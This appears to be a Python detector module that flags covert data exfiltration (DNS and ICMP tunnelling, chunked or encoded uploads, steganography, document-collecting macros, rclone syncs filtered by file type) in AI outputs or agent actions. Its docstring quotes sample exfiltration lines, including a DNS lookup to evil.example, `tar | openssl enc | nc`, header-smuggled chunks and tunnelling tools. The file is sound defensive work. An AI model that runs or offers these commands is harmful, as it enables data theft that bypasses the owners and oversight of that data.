"""OUT-COVERT-EXFIL: moving data out covertly (DNS tunnelling, chunked encoded uploads).

What it catches
    Data encoded and split into chunks (or looked up piece by piece as DNS names) that travel as
    DNS lookups or ICMP/raw packet payloads (also Ruby's `Resolv::DNS#getresources`, Perl's
    `Net::DNS::Resolver` over `unpack('H*', ...)`, Java's `InetAddress.getByName`, a file read
    in small pieces straight into a packet after its ICMP header in C; lookups made over HTTPS
    to a public resolver's DoH endpoint, `dns.google/resolve?name=`, `/dns-query?name=`, a
    request asking for `application/dns-json`, which the network sees only as TLS to the
    resolver), a user's folder
    archived and posted in pieces to a chat webhook (Discord's, Slack's) under its size limit,
    or mailed in pieces from the user's own mailbox with no copy left in Sent Items (Outlook's
    `DeleteAfterSubmit`, Graph's `saveToSentItems: false`),
    or a file walk whose contents are chunked or encoded and uploaded to a webhook or server
    (Perl's File::Find and HTTP::Tiny or a POST written by hand to a socket, PHP's Guzzle);
    encoded slices carried in request headers or parameters (a cookie or `X-` header filled
    with each chunk, `curl -H "X-Data: $chunk"` over `base64 | fold`, an image whose address's
    query carries each encoded slice, `img.src = url + '&d=' + b64.slice(i, i + n)`, which a
    page's connect-src policy does not govern); chunks sent with a random
    wait between them (low and slow; also as hand-made datagrams, `sendto` of each piece in a
    packet shaped as NTP or syslog) or encoded and posted to a bare IP address; the files of a
    walk over a user's folders uploaded with a random wait inside the walk (wherever the upload
    itself is written); data placed
    in ICMP echo payloads (scapy `ICMP()/chunk`, Go `icmp.Echo{Data: ...}`, `ping -p`); data
    hidden in image pixels (each lowest bit cleared and set from the data, `(px & 0xFE) | bit`,
    `(b & ~1) | bit`) and uploaded; packed (encoded, encrypted or archived) chunks or a
    user's archived files posted to a bare public address (PHP's post through a stream context,
    `file_get_contents($url, false, $ctx)`, too); running a DNS or ICMP tunnelling
    tool (`iodine`, `dnscat2`, `ptunnel`, `icmpsh`); as an agent action, data archived,
    encrypted and streamed down a raw socket in one pipeline (`tar | openssl enc | nc`);
    office documents picked by type out of the shares of every host of an address range
    (`net view \\host` over `ip.Mask(n.Mask); n.Contains(ip)`, `ipaddress.ip_network(...)
    .hosts()`) and packed into one archive: collection staged to be taken; office documents
    picked by type out of a user's home or every home (`EXT = (".docx", ".pdf", ...)` ...
    `f.endswith(EXT)` over `os.walk("C:\\Users")`), packed into one archive and posted to a
    web endpoint (an infostealer's collection, T1119 with T1560 and T1041); as an agent
    action, a sync tool's copy to a remote filtered to several office document types (`rclone
    copy \\\\fs01\\Finance mega:x --include "*.{xlsx,pdf,docx}"`): a folder's documents
    collected by kind and taken (T1567); as an agent action, every user's folders (`tar czf -
    /home/*/Documents`) or another machine's shares (`7z a -pKEY x.7z \\\\fs01\\HR\\*`)
    packed, encrypted and uploaded to a web address that asks no credential (`curl -T - https://
    host/b.bin`, `sealed_drops.py`): a drop that takes anyone's upload; as an agent action,
    a sync tool's copy to a remote configured in a hidden file in a scratch or memory-backed
    folder (`rclone copy /srv/finance drop:x --config /dev/shm/.rc.conf`); a document macro
    run by the document's opening (`Workbook_Open`, `AutoOpen`) that walks its reader's home
    folders (`Environ("USERPROFILE") & "\\Desktop"`, `.SubFolders`), reads files
    (`ADODB.Stream.LoadFromFile`) and sends them (`XMLHTTP` `.send`): whoever opens the
    document hands over their files (`macros.py`, T1005 with T1041). A
    database dump uploaded to a bare public address is ACT-DATABASE-EXFIL's.

Why it is a redline (RL-EXFIL)
    Covert channels exist to move data past the people responsible for it.

Example
    `for chunk in chunks(base64.b32encode(data), 60):`
    `    dns.resolver.resolve(f"{chunk}.x.evil.example")`

Allowed instead
    A macro that lists a folder's files into its sheet, uploads a folder's files when its user
    presses a button, or on opening copies the workbook's own folder to the team's site,
    syncing one's own documents to one's own bucket, mailing a report or an archive in parts
    that keeps its copies in Sent Items, a DoH resolver client looking up a host
    name (RFC 8484's base64url query message is one lookup, not chunks of data), a Suricata rule
    for DNS tunnelling,
    uploading logs to a SIEM, resumable uploads with `Content-Range` and retry backoff or a
    storage service's upload sessions (`files_upload_session_start`, S3 multipart), a
    request-id header, an analytics pixel naming the page viewed (its title cut and escaped),
    DNS monitoring that flags long labels, ping health checks, telemetry
    datagrams sent at a fixed pace, a nightly backup that waits a random few minutes before it
    starts (a splay, so that machines do not all start at once), a database
    backup sent to one's own bucket or to a machine of one's own network, an inventory of the
    shares of one's servers (names, sizes, permissions), a backup of one named share, one's
    documents archived to one's own drive or uploaded to one's bucket through the storage
    service's SDK, a share synced whole to one's backup remote, one type of one's own files
    kept in step (`rclone copy ~/Documents/receipts gdrive:receipts --include '*.pdf'`), an
    encrypted backup of users' folders uploaded with the backup service's credentials (`curl -u
    backup:$PW -T`), one's own folder encrypted and shared through an open upload service,
    a sync run with its configuration in its usual place or a named file of one's own
    (`rclone sync /srv/www b2:site --config ~/.config/rclone/site.conf`).
"""

from __future__ import annotations

import re

from redline.redlines.capabilities import Capabilities
from redline.redlines.capabilities import Capability as Cap
from redline.redlines.registry import Detection, detector, piece_reach, pieces, supported

_CHANNELS = (Cap.WEBHOOK, Cap.NET_SEND, Cap.MAIL_SEND)
_COLLECTED = (Cap.HOST_SWEEP, Cap.SPREAD_TARGET, Cap.FILE_WALK, Cap.DOCUMENT_SELECTION, Cap.ARCHIVE)
_WAIT_IN_WALK = 600
"""How far (characters) after a file walk starts a random wait is inside the loop over its
files (`_waits_randomly_in_walk`)."""
_PACED_SEND = 300
"""How close (characters) a random wait is to a hand-written datagram's send to pace it: a few
lines of one loop (in the development sets' chunked sends mostly 30 to 300 characters; the
four at 470 to 620 are left to the other readings)."""
_CONCEALED_NEAR = 300
"""How close (characters) a random wait or a hidden window is to the channel in a response to
belong to the transfer: a few lines of the same loop or call. An answer often holds several
examples, and one example's `sleep` is not another's concealment; an action is one command or
script, all of it the transfer (10,000)."""
_PACKED_THEN_POSTED = 1500
"""How far apart (characters) packing documents into an archive and posting it may lie: steps
of one script, about 30 lines (the development sets' collectors: 40 to 90 characters, the
farthest 1,270); beyond it, an archive made in one example and a post in another."""


_SYNC_TO_REMOTE = re.compile(r"rclone(?:\.exe)?\s+(?:copy|sync|move)\b", re.I)
"""A sync tool's copy to a remote (rclone's)."""


_OFFICE_TYPE = re.compile(r"\b(docx?|xlsx?|pptx?|pdf|kdbx|pst)\b", re.I)


def _synced_by_type(found: Capabilities) -> bool:
    """Whether a sync tool's copy to a remote is filtered, on its own line, to several office
    document types (`--include "*.{xlsx,pdf,docx}"`): documents collected by kind, where one
    type kept in step (`--include '*.pdf'` of one's invoices) is a folder's sync."""
    for send in found.hits.get(Cap.NET_SEND, ()):
        if not _SYNC_TO_REMOTE.match(send.text):
            continue
        picked = " ".join(
            hit.text
            for hit in found.hits.get(Cap.DOCUMENT_SELECTION, ())
            if found.same_line(send.start, hit.start)
        )
        if len({m.group(1).lower().rstrip("x") for m in _OFFICE_TYPE.finditer(picked)}) >= 2:
            return True
    return False


def _looked_up_after(found: Capabilities, shaping: Cap) -> bool:
    """Whether a DNS lookup follows `shaping` closely: the data is shaped, then looked up (a
    program that resolves its server first and hashes a file later is not a tunnel)."""
    if found.kind == "action":
        return shaping in found and Cap.DNS_QUERY in found  # one command line: any order
    return any(
        0 <= query.start - shaped.start <= 400
        for query in found.hits.get(Cap.DNS_QUERY, ())
        for shaped in found.hits.get(shaping, ())
    )


def _waits_randomly_in_walk(found: Capabilities) -> bool:
    """Whether a random wait follows a file walk closely (inside the loop over its files): a
    splay before the walk (`sleep $((RANDOM % 600))` ahead of a nightly backup) comes first.
    Within 600 characters of the walk's start: the body of the loop over its files (in the
    development sets' paced walks the wait lies 410 to 550 characters in). A wait further down
    is not read as pacing the walk here (it may end another part of the script); a long loop
    body whose wait comes last is left to the other readings."""
    return any(
        0 < wait.start - walk.start <= _WAIT_IN_WALK
        for walk in found.hits.get(Cap.FILE_WALK, ())
        for wait in found.hits.get(Cap.JITTER, ())
    )


def _splay_only(found: Capabilities) -> bool:
    """Whether every random wait comes before the file walk starts: a splay that keeps many
    machines from starting their backup at the same second, not a pace between files."""
    walks = found.hits.get(Cap.FILE_WALK, ())
    if not walks:
        return False
    first = min(walk.start for walk in walks)
    return all(wait.start < first for wait in found.hits.get(Cap.JITTER, ()))


_SHEET_ROWS = re.compile(
    r"\bvalues\(\s*\)\.(?:append|update|batchUpdate)\s*\(|\bspreadsheets\.values\.\w+\s*\(", re.I
)
"""Rows written to a Google Sheet through Google's API client (`sheets.values().append(...)`,
`sheets.spreadsheets.values.append({...})`)."""


def _sheet_rows_only(found: Capabilities) -> bool:
    """Every send is rows written to a spreadsheet: its batches (`rows[i:i + 500]`) are the
    API's request limit, the way a storage service's upload parts are its own, and no sign of
    data cut small to slip out (a random wait between the rows still is)."""
    sends = found.hits.get(Cap.NET_SEND, ())
    return bool(sends) and all(_SHEET_ROWS.search(send.text) for send in sends)


@detector("OUT-COVERT-EXFIL", redline="RL-EXFIL")
def covert_exfil(found: Capabilities) -> Detection | None:
    """DNS + encoding + chunking, or file walk + chunking/encoding + upload."""
    if Cap.MACRO_COLLECTOR in found:
        macro = (Cap.MACRO_COLLECTOR,)
        return supported(found, 0.8, macro, "a document's macro sending its reader's files")
    if _looked_up_after(found, Cap.ENCODE) and _looked_up_after(found, Cap.CHUNKING):
        tunnel = (Cap.DNS_QUERY, Cap.ENCODE, Cap.CHUNKING)
        return supported(
            found, 0.85, tunnel, "data encoded into DNS lookups (" + pieces(*tunnel) + ")"
        )
    if found.has_all(Cap.DNS_DATA_LABEL, Cap.ENCODE):
        labels = (Cap.DNS_DATA_LABEL, Cap.ENCODE)
        return supported(found, 0.8, labels, "encoded data looked up as DNS names")
    if found.kind == "action" and found.on_one_line(Cap.SYNC_CONFIG_HIDDEN, Cap.NET_SEND):
        # A folder copied to a remote whose configuration (and credentials) sits in a hidden
        # file in a scratch or memory-backed folder: a destination meant to leave no trace.
        staged = (Cap.SYNC_CONFIG_HIDDEN, Cap.NET_SEND)
        return supported(found, 0.8, staged, "copies data to a remote configured out of sight")
    if Cap.STEGO in found and (Cap.NET_SEND in found or Cap.WEBHOOK in found):
        hidden = (Cap.STEGO, Cap.NET_SEND, Cap.WEBHOOK)
        return supported(found, 0.8, hidden, "data hidden in images and uploaded")
    if found.has_all(Cap.HTTP_CARRIER, Cap.ENCODE):
        carried = (Cap.HTTP_CARRIER, Cap.ENCODE)
        return supported(found, 0.8, carried, "encoded data smuggled in request slices")
    if found.has_all(Cap.COVERT_CHANNEL, Cap.CHUNKING):
        smuggling = (Cap.COVERT_CHANNEL, Cap.CHUNKING)
        return supported(found, 0.8, smuggling, "data chunked into packet payloads")
    if found.has_all(Cap.HEADER_CARRIER, Cap.ENCODE, Cap.CHUNKING):
        headers = (Cap.HEADER_CARRIER, Cap.ENCODE, Cap.CHUNKING)
        return supported(found, 0.8, headers, "encoded chunks carried in request headers")
    channel = [c for c in _CHANNELS if c in found]
    # Packets written by hand (`sendto` of a datagram) carry the chunks when the random wait
    # comes with the sending itself: a file dribbled out in NTP- or syslog-sized pieces.
    paced = [Cap.PACKET_SEND] if found.near(Cap.JITTER, Cap.PACKET_SEND, _PACED_SEND) else []
    if Cap.JITTER in found and Cap.CHUNKING in found and (channel or paced):
        # Backoff on retry grows with the attempt; a random wait between every chunk sent is
        # what keeps a transfer under the volume and timing alarms.
        slow = (Cap.CHUNKING, Cap.JITTER, *channel, *paced, Cap.ENCODE)
        return supported(found, 0.8, slow, "chunks sent at random intervals (low and slow)")
    if Cap.TUNNEL_TOOL in found:
        return supported(found, 0.7, (Cap.TUNNEL_TOOL,), Cap.TUNNEL_TOOL.value)
    packed = [c for c in (Cap.ENCODE, Cap.ENCRYPT, Cap.ARCHIVE) if c in found]
    to_bare_address = found.near(Cap.NET_SEND, Cap.UNVETTED_SOURCE, 160)
    if found.kind == "action" and all(
        found.on_one_line(Cap.NET_CONNECT, c) for c in (Cap.ARCHIVE, Cap.ENCRYPT)
    ):
        # `tar czf - /var/lib/mysql | openssl enc ... | nc HOST PORT`: data packed, sealed from
        # inspection and streamed down a raw socket in one pipeline.
        streamed = (Cap.ARCHIVE, Cap.ENCRYPT, Cap.NET_CONNECT)
        return supported(found, 0.75, streamed, "packed, encrypted data streamed to a raw socket")
    if found.kind == "action" and found.has_all(
        Cap.OTHERS_FOLDERS_PACKED, Cap.ENCRYPT, Cap.UNSIGNED_UPLOAD
    ):
        # `tar czf - /home/*/Documents | openssl enc ... | curl -T - https://host/b`, `7z a -pK
        # x.7z \\fs01\HR\* && curl -T x.7z https://host/`: every user's folders or another
        # machine's shares packed, sealed from inspection and uploaded where no credential is
        # asked. A backup service knows its writer; one's own folder shared encrypted is one's.
        sealed = (Cap.OTHERS_FOLDERS_PACKED, Cap.ENCRYPT, Cap.UNSIGNED_UPLOAD)
        reason = "others' folders packed, encrypted and uploaded with no credential"
        return supported(found, 0.75, sealed, reason)
    if to_bare_address and packed and Cap.CHUNKING in found:
        chunked = (Cap.CHUNKING, *packed, Cap.NET_SEND, Cap.UNVETTED_SOURCE)
        return supported(found, 0.7, chunked, "packed chunks posted to a bare address")
    if to_bare_address and Cap.ARCHIVE in found and Cap.BROAD_TARGET in found:
        archived = (Cap.BROAD_TARGET, Cap.ARCHIVE, Cap.NET_SEND, Cap.UNVETTED_SOURCE)
        return supported(found, 0.7, archived, "a user's files archived and sent to a bare address")
    if found.has_all(Cap.WEBHOOK, Cap.ARCHIVE, Cap.CHUNKING, Cap.BROAD_TARGET):
        # A user's folder packed and posted to a chat webhook piece by piece, under its size
        # limit: a chat service's upload used as the way out.
        pieced = (Cap.BROAD_TARGET, Cap.ARCHIVE, Cap.CHUNKING, Cap.WEBHOOK)
        return supported(
            found, 0.75, pieced, "a user's files archived and posted in pieces to a chat"
        )
    mailed = [c for c in (Cap.MAIL_OUT, Cap.MAIL_SEND) if c in found]
    if mailed and found.has_all(Cap.ARCHIVE, Cap.CHUNKING, Cap.BROAD_TARGET, Cap.MAIL_NO_TRACE):
        # A user's folders packed, cut under the mail size limit and mailed from their own
        # mailbox with no copy left in Sent Items: the mailbox used as the way out, unseen.
        posted = (Cap.BROAD_TARGET, Cap.ARCHIVE, Cap.CHUNKING, *mailed, Cap.MAIL_NO_TRACE)
        return supported(
            found, 0.8, posted, "a user's files archived and mailed in pieces, no copy kept"
        )
    # A storage service's resumable upload sends large files in the service's own pieces; rows
    # appended to a spreadsheet through its API go in batches under the API's request limit.
    provider = Cap.PROVIDER_UPLOAD in found or _sheet_rows_only(found)
    shaping = [
        c for c in (Cap.CHUNKING, Cap.ENCODE) if c in found and not (provider and c is Cap.CHUNKING)
    ]
    # Concealment counts when it belongs to the transfer, not to another example in the answer.
    reach = piece_reach(found, _CONCEALED_NEAR)
    concealed = [
        c
        for c in (Cap.JITTER, Cap.HIDE)
        if c in found
        and any(found.near(c, ch, reach) for ch in channel)
        and not (c is Cap.JITTER and _splay_only(found))
    ]
    if not concealed and Cap.BROAD_TARGET in found and _waits_randomly_in_walk(found):
        # A random wait inside the walk over a user's folders spaces out every file sent,
        # wherever the sending itself is written (a helper function above the loop).
        concealed = [Cap.JITTER]
    if (
        Cap.UNVETTED_SOURCE in found
        and found.has_all(Cap.BROAD_TARGET, Cap.DOCUMENT_SELECTION)
        and not concealed
    ):
        # A backup takes a folder as it is; picking a user's documents out of the whole home
        # and sending them to a bare address is staging them for someone else.
        concealed = [Cap.UNVETTED_SOURCE, Cap.DOCUMENT_SELECTION]
    if (
        found.has_all(Cap.FILE_WALK, Cap.BROAD_TARGET, Cap.DOCUMENT_SELECTION, Cap.ARCHIVE)
        and Cap.NET_SEND in channel
        and not any(c in found for c in (Cap.PROVIDER_UPLOAD, Cap.OBJECT_UPLOAD))
        and found.near(Cap.ARCHIVE, Cap.NET_SEND, _PACKED_THEN_POSTED)
    ):
        # Office documents picked by type out of a user's home or every home, packed into one
        # archive and posted to a web endpoint: an infostealer's collection. A backup takes
        # its folder whole, or goes to a storage service through its SDK.
        picked = (Cap.FILE_WALK, Cap.BROAD_TARGET, Cap.DOCUMENT_SELECTION, Cap.ARCHIVE)
        return supported(
            found, 0.75, (*picked, Cap.NET_SEND), "a user's documents picked by type and posted"
        )
    if found.kind == "action" and _synced_by_type(found):
        # A sync tool told to take only office documents (`rclone copy \\fs01\Finance
        # mega:x --include "*.{xlsx,pdf,docx}"`) to a remote: a folder's documents picked by
        # type and taken, where a backup copies the folder whole (or its own archive's parts).
        synced = (Cap.DOCUMENT_SELECTION, Cap.NET_SEND)
        return supported(found, 0.75, synced, "a folder's documents picked by type and synced out")
    if found.has_all(*_COLLECTED):
        # Documents picked by type out of the shares of every host of an address range and
        # packed into one archive: what is collected and staged to be taken, whichever way it
        # leaves later (an inventory lists shares; a backup copies one share whole).
        return supported(found, 0.7, _COLLECTED, "documents from every host's shares packed up")
    if Cap.FILE_WALK in found and channel and concealed:
        core = (Cap.FILE_WALK, *channel, *concealed)
        return supported(found, 0.75, core, "walked files shipped out of sight")
    if Cap.FILE_WALK in found and channel and (Cap.WEBHOOK in found or shaping):
        core = (Cap.FILE_WALK, *shaping, *channel)
        return supported(found, 0.8, core, "walked files shipped out " + pieces(*shaping, *channel))
    return None
